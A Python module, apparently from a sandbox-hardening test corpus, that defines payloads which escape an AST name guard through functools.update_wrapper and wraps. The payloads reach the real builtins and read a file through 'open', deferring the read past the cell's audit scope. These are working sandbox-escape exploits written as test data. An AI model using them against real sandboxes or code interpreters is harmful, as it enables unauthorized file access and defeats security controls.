"""Class 1: host helpers that read or write an attribute named by a string.

The AST guard checks names as written; each payload hands a dunder name to
library code, which does the ``getattr``/``setattr`` itself.  What it reaches
(the real builtins) is used after the cell, when the host turns ``pwned``
into text (class 5), so the audit scope of the cell does not see the read.
"""

#: ``pwned`` whose text, made by the host after the cell (``str`` in the
#: corpus runner, ``repr`` in a process session's worker), is the canary
LATER = ("pwned = type('P', (), dict.fromkeys(('__str__', '__repr__'),\n"
         "                               lambda s: %s))()")

# a reader built on update_wrapper's ``assigned``: setattr(wrapper, n,
# getattr(wrapped, n)), the value caught by a property setter
_READ = ("import functools\n"
         "def rd(obj, name):\n    out = []\n"
         "    H = type('H', (), {name: property(lambda s: None, lambda s, v: out.append(v))})\n"
         "    functools.update_wrapper(H(), obj, assigned=(name,), updated=())\n"
         "    return out[0]\n")

PAYLOADS = [
    # update_wrapper's ``updated``: getattr(wrapper, n).update(getattr(wrapped, n))
    ("uw_updated_globals", "name_gadgets", "read_file",
     "import functools, json\nsink = {}\nH = type('H', (), {'__glob' + 'als__': sink})\n"
     "functools.update_wrapper(H(), json.dumps, assigned=(), updated=('__glob' + 'als__',))\n"
     "b = sink['__builtins__']\n" + LATER % "b['open'](@S@).read()"),
    # wraps (a partial of update_wrapper), ``assigned`` into a property setter
    ("wraps_assigned_property", "name_gadgets", "read_file",
     "from functools import wraps\nimport json\nout = []\n"
     "H = type('H', (), {'__globals__': property(lambda s: None, lambda s, v: out.append(v))})\n"
     "wraps(json.loads, assigned=['__globals__'], updated=[])(H())\n"
     "b = out[0]['__builtins__']\n" + LATER % "b['open'](@S@).read()"),
    # a builtin's ``__self__`` is the real builtins module
    ("uw_builtin_self", "name_gadgets", "read_file",
     _READ + "b = rd(len, '__self__')\n" + LATER % "b.open(@S@).read()"),
]
